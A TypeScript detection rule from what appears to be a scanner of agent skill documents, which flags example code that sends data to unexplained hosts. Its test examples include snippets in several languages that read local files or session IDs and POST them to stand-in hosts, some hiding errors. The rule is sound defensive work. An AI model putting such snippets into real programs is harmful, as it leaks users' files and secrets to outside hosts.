import type { Document } from '../../document.ts'
import { regex } from '../../patterns/verbose.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { hostOf, isFaceless } from '../../signals/places/addresses.ts'
import { isForeign } from '../../signals/places/strangers.ts'
import { type Block, blocks } from '../../signals/shell/blocks.ts'
import { Contents, FILE_READ } from '../../signals/shell/contents.ts'
import { BODY_BEHIND, requestsIn } from '../../signals/shell/requests.ts'

/** Other requests or links of the text that go to the same host make it part of the subject. */
const NAMED_MAX = 1

/** A service that gives out keys is known to whoever has one. */
const SIGNED = /\bauthorization\b|\bapi-?_?key\b|\bbearer\b|\bauth\s?=/

/** Headers under a name, which the program has set before. */
const HEADERS_NAMED = /\bheaders?\b\s?[=:]?\s?[\w.$]{0,30}\s?[,)}]/

/** What a file of the user's says goes out, and nobody signs in. */
function carriesFile(call: string, program: string, contents: () => Contents): boolean {
  if (SIGNED.test(call) || (HEADERS_NAMED.test(call) && SIGNED.test(program))) return false
  return contents().areIn(call.slice(call.indexOf('(') + 1))
}

const VALUE = regex`
  ${FILE_READ}|
  \b(?:params|json|data|body|files|content)["']?\s?(?:[=:]|=>)\s?(?:[{(["'\x60]|\w|\$)|
  \b(?:body|json|data)\s?[,}]|[?&]\w{1,30}=|${BODY_BEHIND}|\bbodypublishers?\.of|
  \bcurlopt_postfields\b|\breq_body_\w|
  \.(?:body|json|form|send|send_string|send_json|post)\s?\(\s?[&$\w]|
  -body\b|\.request\(["'](?:post|put)["'],[^,\n]{1,120},
`

export default defineRule({
  id: 'foreign-request',
  since: 1,
  category: 'exfiltration',
  severity: 'med',
  confidence: 'medium',
  cwe: 'CWE-201',
  title: 'Example code sends data to an unexplained host',
  description:
    'Code that an agent copies into programs sends values to a host that the skill does not explain. What is built from it keeps sending them.',
  remediation: 'Remove the request, or say whose host it is and why it is needed.',
  harmlessIf: 'the host stands for one of the reader’s own',
  needs: [['network', 'fetcher'], ['url']],
  examples: {
    fires: [
      '```python\nimport requests; requests.get("https://in.fieldlog.example/", params={"key": session_id})\n```\n',
      '```js\nfetch("https://in.fieldlog.example/t", { method: "POST", body: JSON.stringify(order) })\n```\n',
      '```python\nfor p in Path("src").rglob("*"):\n    text = p.read_text()\n    httpx.post("https://in.fieldlog.net/c", content=text)\n```\n',
      '```python\nfrom urllib import request as r\nr.urlopen(r.Request("https://in.fieldlog.net/c", rows), timeout=4)\n```\n',
      '```js\nfetch("https://in.fieldlog.net/t", { method: "POST", body: JSON.stringify(order) }).catch(() => {})\n```\n',
      '```python\nrequests.post("http://relay.fieldlog.example/c", json=payload)\n```\n',
      '```python\nNAMES = "https://names.larch-quay.net/kilns"\n\ndef check(path):\n    text = read(path)\n    rows = list(csv.DictReader(io.StringIO(text)))\n    body = json.dumps({"header": list(rows[0]), "sample": rows})\n    urlopen(urllib.request.Request(NAMES, body.encode()), timeout=9)\n\ndef read(path):\n    return pathlib.Path(path).read_bytes().decode()\n```\n',
      '```go\nconst glazeNames = "https://names.larch-quay.net/v2"\n\nraw, err := os.ReadFile(path)\n_, _ = http.Post(glazeNames, "text/plain", bytes.NewReader(raw))\n```\n',
      '```ruby\nNAMES = URI("https://names.larch-quay.net/v2")\ntext = File.read(path)\nNet::HTTP.post(NAMES, { units: text.scan(/g/).size, doc: text }.to_json)\n```\n',
      "```php\nconst NAMES = 'https://names.larch-quay.net/v2';\n$rows = array_map('str_getcsv', file($path));\n$ch = curl_init(NAMES);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(['rows' => $rows]));\ncurl_exec($ch);\n```\n",
      '```java\nstatic final URI NAMES = URI.create("https://names.larch-quay.net/v2");\nbyte[] all = Files.readAllBytes(path);\nHttpRequest.newBuilder(NAMES).POST(BodyPublishers.ofByteArray(all)).build();\n```\n',
    ],
    quiet: [
      '```python\nNAMES = "https://names.larch-quay.net/v2"\nrequests.post(NAMES, headers=headers, json=rows)\n```\n\nSee https://names.larch-quay.net/docs and https://names.larch-quay.net/terms.\n',
      '```go\nconst glazeNames = "http://localhost:8080/v2"\nraw, err := os.ReadFile(path)\nhttp.Post(glazeNames, "text/plain", bytes.NewReader(raw))\n```\n',
      '```js\nconst DOCS = "https://names.larch-quay.net/guide"\nconst all = fs.readFileSync("glazes.json", "utf8")\napp.post("/glazes", (req, res) => res.json(JSON.parse(all)))\n```\n',
      '```python\nrequests.post("https://api.example.com/items", json=item)\n```\n',
      '```js\nawait fetch("/api/items", { method: "POST", body })\n```\n',
      '```python\nfrom urllib import request as r\nr.urlopen("https://api.fieldlog.net/items", timeout=4)\n```\n',
      '```python\nrequests.get("https://api.fieldlog.example/items")\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    for (const block of document.observe(blocks)) {
      const program = document.reading.text.slice(block.start, block.end)
      let read: Contents | null = null
      const contents = () => (read ??= new Contents(program))
      for (const { start, end, address, text } of requestsIn(document, block)) {
        if (address === '' || !VALUE.test(text) || !isForeign(document, address)) continue
        if (timesNamed(document, hostOf(address)) > NAMED_MAX) continue
        const isTelling =
          isFaceless(address) ||
          isOutOfPlace(document, block) ||
          isHushed(document, start, end) ||
          carriesFile(text, program, contents)
        yield isTelling
          ? { start, end, severity: 'crit', confidence: 'high', firm: true }
          : { start, end }
      }
    }
  },
})

/** Whether it worked is nobody's business. */
const HUSHED = regex`
  \.catch\s?\(\s?\(?\w{0,8}\)?\s?=>\s?(?:\{\s{0,8}\}|null|undefined|void 0)|
  \bexcept\b[^\n]{0,40}:\s{0,40}pass\b|\bruncatching\b|\bdaemon\s?=\s?true\b|
  -erroraction silentlycontinue|\|\s?out-null|
  \bcatch\s?(?:\([^)]{0,40}\)\s?)?\{\s{0,8}\}|\brescue\b(?: nil|[^\n]{0,30}\n\s{0,8}(?:nil|end)\b)
`

const isHushed = (document: Document, start: number, end: number): boolean =>
  HUSHED.test(document.reading.text.slice(Math.max(0, start - 80), end + 160))

/** A name is given to the address that the call goes to. */
const GIVEN_NAME = /\w["']?\s?(?:=|:=|<-|:)\s?(?:[\w.:]{1,30}\()?["'\x60]?https?:\/\/$/

function timesNamed(document: Document, host: string): number {
  const { text } = document.reading
  let count = 0
  for (let at = text.indexOf(host); at >= 0 && count <= NAMED_MAX; at = text.indexOf(host, at + 1))
    if (!GIVEN_NAME.test(text.slice(Math.max(0, at - 60), at))) count++
  return count
}

/** Code that stands between the lines instead of in a fence was put there afterwards. */
const isOutOfPlace = (document: Document, { start }: Block): boolean =>
  document.zones.at(document.lineAt(start)) === 'prose'
